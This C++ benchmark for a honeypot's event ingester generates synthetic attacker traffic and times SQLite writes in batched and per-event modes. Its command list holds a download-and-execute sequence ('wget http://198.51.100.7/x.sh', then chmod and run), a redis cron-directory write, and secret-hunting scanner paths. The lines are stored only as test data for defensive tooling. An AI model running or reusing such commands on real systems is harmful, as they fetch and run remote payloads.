// ingest_bench: events/s from EventBus through the ingester into SQLite, batched (the
// production path) and with one transaction per event (the reference's shape), same run.
// Usage: ingest_bench [events=200000] [per_event_events=20000] [--unique-ips]
// Last line: ingest_events_per_sec <N>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <ctime>
#include <filesystem>
#include <string>
#include <string_view>
#include <thread>
#include <vector>

#include "events/event_bus.hpp"
#include "store/ingest/ingester.hpp"
#include "store/repository.hpp"

namespace {

using namespace decnet;
using clock_type = std::chrono::steady_clock;

// Traffic shaped like a busy honeypot: attacker sessions from a pool of 5,000 source
// addresses, 64 of them active at a time and interleaved, each a connect, a run of
// commands (ssh/telnet/redis), http requests (scanner paths, a User-Agent header, so each
// new path is a fingerprint bounty) or login attempts (a wordlist), then a disconnect.
// About 5% of events carry credentials. With --unique-ips every event comes from a new
// address instead: the worst case for the attacker_ip index (one b-tree leaf per row).
struct Session {
    std::string ip;
    int kind = 0;       // 0 ssh shell, 1 http scanner, 2 telnet/redis, 3 brute force
    int remaining = 0;  // events left
    int step = 0;
};

class Traffic {
  public:
    explicit Traffic(bool unique_ips) : unique_ips_(unique_ips), sessions_(64) {
        for (auto& s : sessions_) start(s);
    }

    Event next(std::size_t i) {
        auto& s = sessions_[rng() % sessions_.size()];
        Event e = make(s, i);
        if (--s.remaining <= 0) start(s);
        return e;
    }

  private:
    std::uint64_t rng() {  // xorshift64: deterministic and cheap next to the event itself
        state_ ^= state_ << 13;
        state_ ^= state_ >> 7;
        state_ ^= state_ << 17;
        return state_;
    }

    static std::string address(std::uint64_t a) {
        return "10." + std::to_string(a >> 16 & 255) + "." + std::to_string(a >> 8 & 255) + "." +
               std::to_string(a & 255);
    }

    void start(Session& s) {
        s.ip = address(rng() % 5000);
        const auto kind = rng() % 20;  // 40% ssh shells, 20% http, 35% telnet/redis, 5% brute force
        s.kind = kind < 8 ? 0 : kind < 12 ? 1 : kind < 19 ? 2 : 3;
        s.remaining = 5 + static_cast<int>(rng() % 40);
        s.step = 0;
    }

    Event make(Session& s, std::size_t i) {
        static constexpr const char* kCommands[] = {"uname -a",
                                                    "cat /proc/cpuinfo",
                                                    "wget http://198.51.100.7/x.sh",
                                                    "ls -la /tmp",
                                                    "cd /tmp; chmod +x x.sh; ./x.sh",
                                                    "CONFIG SET dir /var/spool/cron",
                                                    "INFO",
                                                    "id"};
        static constexpr const char* kPaths[] = {"/",
                                                 "/wp-login.php",
                                                 "/.env",
                                                 "/admin",
                                                 "/phpmyadmin/",
                                                 "/cgi-bin/luci",
                                                 "/actuator/health",
                                                 "/.git/config",
                                                 "/boaform/admin/formLogin",
                                                 "/HNAP1/"};
        static constexpr const char* kUsers[] = {"root", "admin", "ubuntu", "pi", "oracle"};
        Event e;
        e.time = event_now();
        e.decky = "decky-" + std::to_string(1 + rng() % 10);
        if (unique_ips_) s.ip = address(5000 + counter_++);
        const bool first = s.step++ == 0;
        const bool last = s.remaining == 1;
        static constexpr const char* kLifecycle[] = {"ssh", "http", "telnet", "ssh"};
        if (first || last) {
            e.service = s.kind == 2 && rng() % 2 ? "redis" : kLifecycle[s.kind];
            e.event_type = first ? "connect" : "disconnect";
            e.add("src_ip", s.ip).add("src_port", 32768 + i % 28000);
            return e;
        }
        switch (s.kind) {
            case 0:
                e.service = "ssh";
                e.event_type = "command";
                e.add("src_ip", s.ip).add("command", kCommands[rng() % 8]);
                break;
            case 1:
                e.service = "http";
                e.event_type = "request";
                e.add("src_ip", s.ip)
                    .add("method", rng() % 4 ? "GET" : "POST")
                    .add("path", kPaths[rng() % 10])
                    .add("headers",
                         "{\"User-Agent\":\"Mozilla/5.0 zgrab/0.x\",\"Accept\":\"*/*\"}");
                break;
            case 2:
                e.service = rng() % 2 ? "redis" : "telnet";
                e.event_type = "command";
                e.add("src_ip", s.ip).add("command", kCommands[rng() % 8]);
                break;
            default:
                e.service = rng() % 2 ? "ssh" : "ftp";
                e.event_type = "login_attempt";
                e.add("src_ip", s.ip)
                    .add("username", kUsers[rng() % 5])
                    .add("password", "pass" + std::to_string(rng() % 200));
        }
        return e;
    }

    bool unique_ips_;
    std::vector<Session> sessions_;
    std::uint64_t state_ = 0x9E3779B97F4A7C15ull;
    std::uint64_t counter_ = 0;
};

double run(std::size_t count, std::size_t max_batch, const std::string& db_path, bool unique_ips) {
    std::filesystem::remove(db_path);
    auto repository = store::open_sqlite(db_path);
    EventBus bus;
    auto subscription = bus.subscribe("ingester", count + 1);
    store::IngesterOptions options;
    options.max_batch = max_batch;
    store::Ingester ingester(*repository, options);

    Traffic traffic(unique_ips);
    const auto start = clock_type::now();
    const auto cpu_start = std::clock();  // process CPU: a figure the machine's load distorts less
    double writer_cpu_us = 0;             // the ingester thread alone: the pipeline's serial part
    std::thread writer([&] {
        ingester.run(*subscription);
        timespec cpu{};
        clock_gettime(CLOCK_THREAD_CPUTIME_ID, &cpu);
        writer_cpu_us =
            1e6 * static_cast<double>(cpu.tv_sec) + static_cast<double>(cpu.tv_nsec) / 1e3;
    });
    for (std::size_t i = 0; i < count; ++i) bus.publish(traffic.next(i));
    bus.close();
    writer.join();
    const double seconds = std::chrono::duration<double>(clock_type::now() - start).count();
    const double cpu_us = 1e6 * static_cast<double>(std::clock() - cpu_start) / CLOCKS_PER_SEC;
    const auto stats = ingester.stats();
    if (stats.stored != count) {
        std::fprintf(stderr, "ingest_bench: stored %llu of %zu events\n",
                     static_cast<unsigned long long>(stats.stored), count);
        std::exit(1);
    }
    std::printf(
        "  %-26s %9zu events  %7.3f s  %10.0f events/s  CPU/event %5.1f us (ingester thread "
        "%5.1f us)  (%llu bounties)\n",
        max_batch == 1 ? "one transaction per event" : "batched (<=1000 / 50 ms)", count, seconds,
        count / seconds, cpu_us / static_cast<double>(count),
        writer_cpu_us / static_cast<double>(count),
        static_cast<unsigned long long>(stats.bounties));
    return count / seconds;
}

}  // namespace

int main(int argc, char** argv) {
    const std::size_t events = argc > 1 ? std::strtoull(argv[1], nullptr, 10) : 200000;
    const std::size_t per_event = argc > 2 ? std::strtoull(argv[2], nullptr, 10) : 20000;
    const auto dir = std::filesystem::temp_directory_path() / "decnet-ingest-bench";
    std::filesystem::create_directories(dir);
    std::printf("ingest_bench: bus -> ingester -> SQLite (WAL, synchronous=NORMAL) in %s\n",
                dir.c_str());
    const bool unique_ips = argc > 3 && std::string_view(argv[3]) == "--unique-ips";
    const double batched = run(events, 1000, (dir / "batched.db").string(), unique_ips);
    const double single = run(per_event, 1, (dir / "single.db").string(), unique_ips);
    std::printf("  batched / per-event ratio: %.1fx\n", batched / single);
    std::filesystem::remove_all(dir);
    std::printf("ingest_events_per_sec %.0f\n", batched);
    return 0;
}
